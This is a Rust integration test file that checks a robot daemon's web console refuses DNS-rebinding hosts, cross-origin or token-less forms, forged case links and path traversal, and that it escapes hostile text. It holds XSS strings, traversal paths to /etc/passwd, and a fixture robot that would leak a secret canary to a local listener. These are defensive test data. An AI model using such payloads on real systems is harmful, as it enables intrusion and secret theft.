//! The web console over real HTTP: what it must refuse (a foreign Host, a
//! form without its CSRF token, a second "run now", a missing token, a case
//! link that is wrong or expired, a path outside the state folder, a
//! non-loopback address without a token) and that page text is shown as
//! text. The browser-driven tests are in `console_browser`.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use crate::common::{Harness, free_port, text};

pub(crate) const TOKEN: &str = "console-token-canary-7f3a";

/// One HTTP/1.1 exchange with the console, byte for byte as given (so a
/// path with `..` and any Host header reach it unchanged).
pub(crate) struct Answer {
    pub status: u16,
    pub head: String,
    pub body: String,
}

pub(crate) fn http(port: u16, method: &str, path: &str, headers: &[(&str, &str)], body: Option<&str>) -> Answer {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let mut request = format!("{method} {path} HTTP/1.1\r\nConnection: close\r\n");
    if !headers.iter().any(|(k, _)| k.eq_ignore_ascii_case("host")) {
        request.push_str(&format!("Host: 127.0.0.1:{port}\r\n"));
    }
    for (k, v) in headers {
        request.push_str(&format!("{k}: {v}\r\n"));
    }
    if let Some(body) = body {
        request.push_str(&format!(
            "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n",
            body.len()
        ));
    }
    request.push_str("\r\n");
    request.push_str(body.unwrap_or_default());
    stream.write_all(request.as_bytes()).unwrap();
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).unwrap();
    let raw = String::from_utf8_lossy(&raw).into_owned();
    let (head, body) = raw.split_once("\r\n\r\n").unwrap_or((&raw, ""));
    let status = head.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
    Answer { status, head: head.to_string(), body: body.to_string() }
}

/// A `nightshift serve --http` for a test, stopped (SIGTERM) when dropped.
pub(crate) struct Served {
    child: Child,
}

impl Served {
    pub(crate) fn start(h: &Harness, robots: &Path, port: u16, env: &[(String, String)]) -> Self {
        let schedules = h.dir.path().join("no-schedules");
        std::fs::create_dir_all(&schedules).unwrap();
        let mut command = h.command(&[
            "--robots",
            robots.to_str().unwrap(),
            "--schedules",
            schedules.to_str().unwrap(),
            "serve",
            "--http",
            &format!("127.0.0.1:{port}"),
        ]);
        command.envs(env.iter().map(|(k, v)| (k.as_str(), v.as_str())));
        let child = command.stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
        let served = Self { child };
        let deadline = Instant::now() + Duration::from_secs(30);
        while TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(Instant::now() < deadline, "the console did not start listening within 30 s");
            std::thread::sleep(Duration::from_millis(50));
        }
        served
    }
}

impl Drop for Served {
    fn drop(&mut self) {
        // SAFETY: kill only sends a signal to our own child.
        unsafe { libc::kill(self.child.id() as libc::pid_t, libc::SIGTERM) };
        let deadline = Instant::now() + Duration::from_secs(30);
        while self.child.try_wait().ok().flatten().is_none() && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(50));
        }
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Quoted-printable text as it was before encoding.
pub(crate) fn unquote(text: &str) -> String {
    let joined = text.replace("=\r\n", "").replace("=\n", "");
    let bytes = joined.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'='
            && i + 2 < bytes.len()
            && let Ok(b) = u8::from_str_radix(&joined[i + 1..i + 3], 16)
        {
            out.push(b);
            i += 3;
            continue;
        }
        out.push(bytes[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// The case links in the mails of the outbox folder.
pub(crate) fn case_links(outbox: &Path) -> Vec<String> {
    let mut links = Vec::new();
    for entry in std::fs::read_dir(outbox).into_iter().flatten().flatten() {
        let mail = unquote(&std::fs::read_to_string(entry.path()).unwrap());
        for word in mail.split_whitespace() {
            let plain = !word.contains("&amp;") && !word.contains('<');
            if plain
                && word.starts_with("http://127.0.0.1:")
                && word.contains("/case?")
                && !links.contains(&word.to_string())
            {
                links.push(word.trim_end_matches(['.', ',']).to_string());
            }
        }
    }
    links
}

/// The path and query of a URL on the console.
pub(crate) fn path_of(url: &str) -> String {
    let rest = url.split_once("://").unwrap().1;
    format!("/{}", rest.split_once('/').unwrap().1)
}

/// The CSRF token in a page's forms.
pub(crate) fn csrf(page: &str) -> String {
    let at = page.find("name=\"csrf\" value=\"").expect("a form with its CSRF token") + "name=\"csrf\" value=\"".len();
    page[at..].split('"').next().unwrap().to_string()
}

/// The `Cookie` header that carries the session a page set (`Set-Cookie`).
pub(crate) fn session_cookie(head: &str) -> String {
    let line = head
        .lines()
        .find(|l| l.to_ascii_lowercase().starts_with("set-cookie: nightshift_session="))
        .expect("the page sets its session cookie");
    line.split_once(": ").unwrap().1.split(';').next().unwrap().to_string()
}

/// A robot whose one case fails with page-like text that holds markup.
fn markup_robot(dir: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(dir.join("cases.csv"), "Ärende,Namn\n2026-3001,<b>Ada</b>\n").unwrap();
    std::fs::write(
        dir.join("markup.yaml"),
        "name: markup\nhandlers: [officer@example.se]\nitems:\n  csv: cases.csv\n  key: Ärende\n  steps:\n    - fail: \"<script>alert(1)</script> ${item.Namn}\"\n",
    )
    .unwrap();
}

#[test]
fn the_console_refuses_what_it_must_and_shows_page_text_as_text() {
    let h = Harness::new();
    let robots = h.dir.path().join("robots");
    markup_robot(&robots);
    let port = free_port();
    let env = vec![
        ("NIGHTSHIFT_CONSOLE_TOKEN".to_string(), TOKEN.to_string()),
        ("NIGHTSHIFT_PUBLIC_URL".to_string(), format!("http://127.0.0.1:{port}")),
    ];
    let mut run = h.command(&["--robots", robots.to_str().unwrap(), "run", "markup"]);
    run.envs(env.iter().map(|(k, v)| (k.as_str(), v.as_str())));
    let out = run.output().unwrap();
    assert_eq!(out.status.code(), Some(4), "{}", text(&out.stderr));
    let console = Served::start(&h, &robots, port, &env);
    let auth = ("Authorization", format!("Bearer {TOKEN}"));
    let authed = [(auth.0, auth.1.as_str())];

    // The token: none, a wrong one, the right one; the health check needs none.
    assert_eq!(http(port, "GET", "/", &[], None).status, 401);
    assert_eq!(http(port, "GET", "/runs", &[("Authorization", "Bearer wrong")], None).status, 401);
    let start = http(port, "GET", "/", &authed, None);
    assert_eq!(start.status, 200, "{}", start.body);
    assert_eq!(http(port, "GET", "/healthz", &[], None).status, 200);
    assert!(!start.body.contains(TOKEN), "the page never shows the token");
    for header in
        ["content-security-policy: default-src 'none'", "x-content-type-options: nosniff", "frame-ancestors 'none'"]
    {
        assert!(start.head.to_ascii_lowercase().contains(header), "{header} in {}", start.head);
    }

    // Another Host (DNS rebinding) is refused, token or not.
    let foreign = http(port, "GET", "/", &[("Host", &format!("evil.example:{port}")), (auth.0, &auth.1)], None);
    assert_eq!(foreign.status, 403);

    // Text from pages and robots is text.
    for path in ["/runs/1", "/cases"] {
        let page = http(port, "GET", path, &authed, None);
        assert_eq!(page.status, 200, "{path}");
        assert!(page.body.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{path}: {}", page.body);
        assert!(!page.body.contains("<script>alert(1)") && !page.body.contains("<b>Ada</b>"), "{path}");
    }

    let run = http(port, "GET", "/runs/1", &authed, None);
    assert!(run.body.contains("<details><summary>Alla steg (1)</summary>"), "every step, folded: {}", run.body);

    // Evidence only from the state folder's evidence.
    let outside = http(port, "GET", "/evidence/1/../../nightshift.db", &authed, None);
    assert!(matches!(outside.status, 403 | 404), "{}: {}", outside.status, outside.body);
    assert!(!outside.body.contains("SQLite format"), "the run log was not served");
    let passwd = http(port, "GET", "/evidence/1/..%2F..%2F..%2F..%2Fetc%2Fpasswd", &authed, None);
    assert!(matches!(passwd.status, 403 | 404) && !passwd.body.contains("root:"), "{}", passwd.status);

    // Run now: refused without the form's token, started with it, 409 while running.
    let refused = http(port, "POST", "/robots/markup/run", &authed, Some("csrf=guess"));
    assert_eq!(refused.status, 403);
    let form = format!("csrf={}", csrf(&start.body));
    let session = session_cookie(&start.head);
    let with_session = [(auth.0, auth.1.as_str()), ("Cookie", session.as_str())];
    let started = http(port, "POST", "/robots/markup/run", &with_session, Some(&form));
    assert_eq!(started.status, 303, "{}", started.body);
    assert!(
        started.head.contains("location: /runs/2") || started.head.contains("Location: /runs/2"),
        "{}",
        started.head
    );
    let again = http(port, "POST", "/robots/markup/run", &with_session, Some(&form));
    assert_eq!(again.status, 409, "{}", again.body);

    // The case link from the mail opens its case without the console's
    // token; a wrong or expired one does not.
    let links = case_links(&h.state_dir().join("outbox"));
    assert_eq!(links.len(), 1, "{links:?}");
    let case = http(port, "GET", &path_of(&links[0]), &[], None);
    assert_eq!(case.status, 200, "{}", case.body);
    assert!(case.body.contains("2026-3001"));
    assert!(!case.body.contains("<nav"), "no menu of pages the officer cannot open: {}", case.body);
    let wrong = path_of(&links[0]).replace("robot=markup", "robot=other");
    assert_eq!(http(port, "GET", &wrong, &[], None).status, 403);
    let key = std::fs::read(h.state_dir().join("console.key")).unwrap();
    let expired = (chrono::Utc::now() - chrono::Duration::days(1)).timestamp();
    let tag = ring::hmac::sign(
        &ring::hmac::Key::new(ring::hmac::HMAC_SHA256, &key),
        format!("markup\u{1f}2026-3001\u{1f}{expired}").as_bytes(),
    );
    let hex: String = tag.as_ref().iter().map(|b| format!("{b:02x}")).collect();
    let old = http(port, "GET", &format!("/case?robot=markup&key=2026-3001&token={expired}.{hex}"), &[], None);
    assert_eq!(old.status, 403);
    assert!(old.body.contains("expired") || old.body.contains("gått ut"), "{}", old.body);
    // The link opens that case only: not the console's other pages.
    assert_eq!(http(port, "GET", "/cases", &[], None).status, 401);

    let metrics = http(port, "GET", "/metrics", &authed, None);
    assert!(metrics.body.contains("nightshift_open_exceptions{robot=\"markup\"} 1"), "{}", metrics.body);
    assert!(
        metrics.body.contains("nightshift_runs_total{robot=\"markup\",status=\"succeeded_with_exceptions\"} 1"),
        "{}",
        metrics.body
    );
    drop(console);
}

/// What a legacy page or a case list could hold, as a hostile one would write it.
const HOSTILE: [&str; 4] =
    ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</textarea>", "javascript:alert(1)"];

#[test]
fn every_page_shows_hostile_text_as_text_and_no_personnummer() {
    let h = Harness::new();
    let robots = h.dir.path().join("robots");
    std::fs::create_dir_all(&robots).unwrap();
    // A key, an officer, fields and a message from outside; a personnummer in a field and the message.
    let mut csv = csv::Writer::from_writer(Vec::new());
    csv.write_record(["Ärende", "Namn", "Anteckning", "Länk", "Pnr", "Handläggare"]).unwrap();
    let officer = format!("{}@example.se", HOSTILE[1]);
    csv.write_record([HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3], "19121212-1212", officer.as_str()]).unwrap();
    std::fs::write(robots.join("cases.csv"), csv.into_inner().unwrap()).unwrap();
    std::fs::write(
        robots.join("hostile.yaml"),
        "name: hostile\nhandlers: [officer@example.se]\nnotify: {handler_field: Handläggare}\nprivacy: {mask_personnummer: true}\n\
         items:\n  csv: cases.csv\n  key: Ärende\n  steps:\n    - log: \"${item.Namn} ${item.Anteckning}\"\n    \
         - fail: \"${item.Länk} ${item.Namn} ${item.Anteckning} ${item.Pnr}\"\n",
    )
    .unwrap();
    let out = h.run(&["--robots", robots.to_str().unwrap(), "run", "hostile"], &[]);
    assert_eq!(out.status.code(), Some(4), "{}", text(&out.stderr));
    let port = free_port();
    let env = vec![("NIGHTSHIFT_CONSOLE_TOKEN".to_string(), TOKEN.to_string())];
    let console = Served::start(&h, &robots, port, &env);
    let auth = format!("Bearer {TOKEN}");
    let authed = [("Authorization", auth.as_str())];
    let case = format!(
        "/case?robot=hostile&key={}",
        form_urlencoded::byte_serialize(HOSTILE[0].as_bytes()).collect::<String>()
    );
    for path in ["/", "/runs", "/runs/1", "/stats", "/cases", case.as_str()] {
        let page = http(port, "GET", path, &authed, None);
        assert_eq!(page.status, 200, "{path}: {}", page.body);
        for raw in ["<script>alert", "<img src=x", "</textarea>", "href=\"javascript:", "19121212-1212", "1212121212"] {
            assert!(!page.body.contains(raw), "{path} holds `{raw}`: {}", page.body);
        }
    }
    // Shown, as text, where they belong.
    let cases = http(port, "GET", "/cases", &authed, None).body;
    assert!(cases.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "the key: {cases}");
    assert!(cases.contains("&quot;&gt;&lt;img src=x onerror=alert(1)&gt;@example.se"), "the officer: {cases}");
    let one = http(port, "GET", &case, &authed, None).body;
    for shown in ["&lt;/textarea&gt;", "javascript:alert(1)", "19121212-****"] {
        assert!(one.contains(shown), "the case page shows {shown}: {one}");
    }
    let run = http(port, "GET", "/runs/1", &authed, None).body;
    assert!(run.contains("<li>&quot;&gt;&lt;img src=x onerror=alert(1)&gt; &lt;/textarea&gt;</li>"), "the log: {run}");
    drop(console);
}

#[test]
fn the_console_will_not_listen_beyond_loopback_without_a_token() {
    let h = Harness::new();
    let port = free_port();
    let out = h.run(&["serve", "--http", &format!("0.0.0.0:{port}")], &[]);
    assert_eq!(out.status.code(), Some(5), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("not a loopback address, without a token"), "{}", text(&out.stderr));
}

/// A robot outside the robots folder that would send the daemon's secret to
/// a listener on loopback if it ever ran.
fn outside_robot(dir: &Path, listener_port: u16) -> std::path::PathBuf {
    std::fs::create_dir_all(dir).unwrap();
    let path = dir.join("evil.yaml");
    std::fs::write(
        &path,
        format!(
            "name: evil\nsecrets: [CANARY]\nsetup:\n  - http: {{ get: \"http://127.0.0.1:{listener_port}/leak?s=${{secrets.CANARY}}\", into: answer }}\n"
        ),
    )
    .unwrap();
    path
}

/// Counts the connections made to a loopback port until the test ends.
fn listener() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    let socket = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = socket.local_addr().unwrap().port();
    let count = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let seen = count.clone();
    std::thread::spawn(move || {
        for stream in socket.incoming().flatten() {
            seen.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            drop(stream);
        }
    });
    (port, count)
}

#[test]
fn run_now_takes_only_the_name_of_a_robot_of_the_robots_folder() {
    let h = Harness::new();
    let robots = h.dir.path().join("robots");
    markup_robot(&robots);
    let (leak_port, calls) = listener();
    let evil = outside_robot(&h.dir.path().join("elsewhere"), leak_port);
    let port = free_port();
    let env = vec![("NIGHTSHIFT_SECRET_CANARY".to_string(), "secret-canary-5d21".to_string())];
    let console = Served::start(&h, &robots, port, &env);
    let start = http(port, "GET", "/", &[], None);
    let form = format!("csrf={}", csrf(&start.body));
    let session = session_cookie(&start.head);
    let headers = [("Cookie", session.as_str())];

    let plain = evil.to_str().unwrap().to_string();
    let encoded: String = form_urlencoded::byte_serialize(plain.as_bytes()).collect();
    let relative = "..%2Felsewhere%2Fevil";
    for name in [encoded.as_str(), relative, "..%2Felsewhere%2Fevil.yaml", "evil", "markup.yaml"] {
        let answer = http(port, "POST", &format!("/robots/{name}/run"), &headers, Some(&form));
        assert_eq!(answer.status, 404, "{name}: {}", answer.body);
    }
    // Give a robot that was started anyway the time to make its call.
    std::thread::sleep(Duration::from_secs(3));
    assert_eq!(calls.load(std::sync::atomic::Ordering::SeqCst), 0, "the robot outside the folder called out");
    let runs = http(port, "GET", "/runs", &[], None);
    assert!(!runs.body.contains("/runs/1\""), "no run was created: {}", runs.body);
    // The case page and the runs filter take such a name as a name, nothing more.
    let case = http(port, "GET", &format!("/case?robot={encoded}&key=x&token=1.00"), &[], None);
    assert_eq!(case.status, 404, "no such open case: {}", case.body);
    assert_eq!(http(port, "GET", &format!("/runs?robot={encoded}"), &[], None).status, 200);
    assert_eq!(calls.load(std::sync::atomic::Ordering::SeqCst), 0);

    // An unknown name and an invalid robot file are told apart.
    let unknown = http(port, "POST", "/robots/evil/run", &headers, Some(&form));
    assert!(unknown.body.contains("Det finns ingen robot `evil` i robotmappen"), "{}", unknown.body);
    std::fs::write(robots.join("broken.yaml"), "name: broken\nsetup:\n  - nosuchstep: x\n").unwrap();
    let broken = http(port, "POST", "/robots/broken/run", &headers, Some(&form));
    assert_eq!(broken.status, 422, "{}", broken.body);
    assert!(broken.body.contains("Ogiltig robotfil"), "{}", broken.body);
    assert!(broken.body.contains("Robotfilen `broken` är ogiltig"), "{}", broken.body);

    // The robot of the folder still starts.
    let started = http(port, "POST", "/robots/markup/run", &headers, Some(&form));
    assert_eq!(started.status, 303, "{}", started.body);
    drop(console);
}

#[test]
fn a_form_from_another_origin_or_another_session_is_refused() {
    let h = Harness::new();
    let robots = h.dir.path().join("robots");
    markup_robot(&robots);
    let port = free_port();
    let console = Served::start(&h, &robots, port, &[]);
    let start = http(port, "GET", "/", &[], None);
    let form = format!("csrf={}", csrf(&start.body));
    let session = session_cookie(&start.head);
    let own_origin = format!("http://127.0.0.1:{port}");

    let foreign = [("Cookie", session.as_str()), ("Origin", "https://evil.example")];
    assert_eq!(http(port, "POST", "/robots/markup/run", &foreign, Some(&form)).status, 403);
    let cross = [("Cookie", session.as_str()), ("Sec-Fetch-Site", "cross-site")];
    assert_eq!(http(port, "POST", "/robots/markup/run", &cross, Some(&form)).status, 403);
    let null = [("Cookie", session.as_str()), ("Origin", "null")];
    assert_eq!(http(port, "POST", "/robots/markup/run", &null, Some(&form)).status, 403, "no browser vouches for it");
    // The token is another browser's: its session cookie is not this one.
    let other = http(port, "GET", "/", &[], None);
    let other_session = session_cookie(&other.head);
    assert_ne!(other_session, session, "each browser gets its own session");
    let stolen = [("Cookie", other_session.as_str()), ("Origin", own_origin.as_str())];
    assert_eq!(http(port, "POST", "/robots/markup/run", &stolen, Some(&form)).status, 403);
    assert_eq!(http(port, "POST", "/robots/markup/run", &[], Some(&form)).status, 403, "no cookie at all");
    let runs = http(port, "GET", "/runs", &[], None);
    assert!(!runs.body.contains("/runs/1\""), "nothing ran: {}", runs.body);

    // A browser under the console's no-referrer policy: `Origin: null`, vouched for.
    let own = [("Cookie", session.as_str()), ("Origin", "null"), ("Sec-Fetch-Site", "same-origin")];
    let started = http(port, "POST", "/robots/markup/run", &own, Some(&form));
    assert_eq!(started.status, 303, "{}", started.body);
    drop(console);
}

#[test]
fn the_health_check_answers_at_once_while_front_pages_for_hundreds_of_jobs_are_made() {
    let h = Harness::new();
    let robots = h.dir.path().join("robots");
    let schedules = h.dir.path().join("schedules");
    std::fs::create_dir_all(&robots).unwrap();
    std::fs::create_dir_all(&schedules).unwrap();
    std::fs::write(robots.join("r.yaml"), "name: r\n").unwrap();
    // 100 jobs whose every fire a calendar skips (each next run walks the
    // calendar), 200 ordinary ones.
    for n in 0..300 {
        let job = if n < 100 { "cron: \"@weekly\"\n    calendar: working_days" } else { "cron: \"@daily\"" };
        std::fs::write(schedules.join(format!("s{n:03}.yaml")), format!("jobs:\n  - robot: r\n    {job}\n")).unwrap();
    }
    let port = free_port();
    let mut command = h.command(&[
        "--robots",
        robots.to_str().unwrap(),
        "--schedules",
        schedules.to_str().unwrap(),
        "serve",
        "--http",
        &format!("127.0.0.1:{port}"),
    ]);
    let mut daemon = command.stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    while http_ok(port, "/healthz").is_none() {
        assert!(Instant::now() < deadline, "the console did not start");
        std::thread::sleep(Duration::from_millis(100));
    }
    let pages: Vec<_> = (0..3).map(|_| std::thread::spawn(move || http(port, "GET", "/", &[], None))).collect();
    std::thread::sleep(Duration::from_millis(200));
    let mut probes = Vec::new();
    while !pages.iter().all(|p| p.is_finished()) && probes.len() < 200 {
        probes.push(http_ok(port, "/healthz").expect("the health check answers"));
        std::thread::sleep(Duration::from_millis(50));
    }
    for page in pages {
        let page = page.join().unwrap();
        assert_eq!(page.status, 200, "{}", page.body);
        assert!(page.body.contains("De tio närmaste körningarna"), "the page lists the coming runs: {}", page.body);
    }
    probes.sort();
    assert!(!probes.is_empty());
    let median = probes[probes.len() / 2];
    assert!(median < Duration::from_millis(100), "health checks took {probes:?}");
    assert!(probes.last().unwrap() < &Duration::from_secs(1), "health checks took {probes:?}");
    // SAFETY: signalling the daemon this test started.
    unsafe { libc::kill(daemon.id() as libc::pid_t, libc::SIGTERM) };
    let _ = daemon.wait();
}

/// How long one GET of `path` took, when it answered 200.
fn http_ok(port: u16, path: &str) -> Option<Duration> {
    TcpStream::connect(("127.0.0.1", port)).ok()?;
    let started = Instant::now();
    let answer = http(port, "GET", path, &[], None);
    (answer.status == 200).then(|| started.elapsed())
}

#[test]
fn the_analyst_reads_figures_her_way_and_takes_them_into_a_swedish_excel() {
    let h = Harness::new();
    let robots = h.dir.path().join("robots");
    std::fs::create_dir_all(&robots).unwrap();
    // Three cases done at 6 minutes each, one that goes to an officer.
    std::fs::write(
        robots.join("cases.csv"),
        "Id,Pnr\n1,19121212-1212\n2,19121212-1212\n3,19121212-1212\n4,19121212-1213\n",
    )
    .unwrap();
    std::fs::write(
        robots.join("counted.yaml"),
        "name: counted\nmanual_minutes: 6\nhandlers: [officer@example.se]\nitems:\n  csv: cases.csv\n  key: Id\n  \
         steps:\n    - validate: { personnummer: \"${item.Pnr}\" }\n",
    )
    .unwrap();
    let out = h.run(&["--robots", robots.to_str().unwrap(), "run", "counted", "--json"], &[]);
    assert_eq!(out.status.code(), Some(4), "{}", text(&out.stderr));
    let run: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let done = run["items"]["done"].as_i64().unwrap();
    assert_eq!((done, run["items"]["business_exceptions"].as_i64()), (3, Some(1)), "{run}");
    let port = free_port();
    let env = vec![("NIGHTSHIFT_MANUAL_COST_PER_HOUR".to_string(), "450".to_string())];
    let console = Served::start(&h, &robots, port, &env);
    let swedish = [("Accept-Language", "sv-SE,sv;q=0.9")];

    // The page: hours with a decimal comma, the kronor they are worth, the exception rate.
    let hours = done as f64 * 6.0 / 60.0;
    let page = http(port, "GET", "/stats", &swedish, None).body;
    let written = format!("{hours:.1}").replace('.', ",");
    assert!(page.contains(&format!("<td>{written}</td>")), "{written} hours: {page}");
    assert!(page.contains(&format!("<td>{:.0} kr</td>", hours * 450.0)), "{page}");
    assert!(page.contains("<td>25 %</td>"), "one case in four went to an officer: {page}");
    assert!(page.contains("Per år") && page.contains("href=\"/stats-excel.csv?"), "{page}");
    assert!(page.contains(&format!("<desc id=\"chart-desc\">{}: {written} h</desc>", run_month(&run))), "{page}");

    // The Excel file: a byte-order mark, semicolons, a decimal comma.
    let excel = http(port, "GET", "/stats-excel.csv", &[], None);
    assert!(excel.head.contains("filename=\"nightshift-stats-excel.csv\""), "{}", excel.head);
    assert!(excel.body.starts_with("\u{feff}robot;period;runs;items_done;"), "{}", excel.body);
    let row = excel.body.lines().nth(1).unwrap();
    assert!(row.starts_with(&format!("counted;{};1;3;1;0;", run_month(&run))), "{row}");
    assert!(row.contains(&format!(";{}", format!("{hours:.2}").replace('.', ","))), "{row}");
    let plain = http(port, "GET", "/stats.csv", &[], None).body;
    assert!(plain.lines().nth(1).unwrap().contains(&format!(",{hours:.2},")), "{plain}");

    // Filters: another robot, another year.
    let other = http(port, "GET", "/stats-excel.csv?robot=other", &[], None).body;
    assert_eq!(other.lines().count(), 1, "the header only: {other}");
    let long_ago = http(port, "GET", "/stats?from=2000-01&to=2000-12", &swedish, None).body;
    assert!(long_ago.contains("Inga körningar i den perioden."), "{long_ago}");
    drop(console);
}

/// The month (`YYYY-MM`, Stockholm) run `run` started in.
fn run_month(run: &serde_json::Value) -> String {
    let started = chrono::DateTime::parse_from_rfc3339(run["started_at"].as_str().unwrap()).unwrap();
    started.with_timezone(&chrono_tz::Europe::Stockholm).format("%Y-%m").to_string()
}
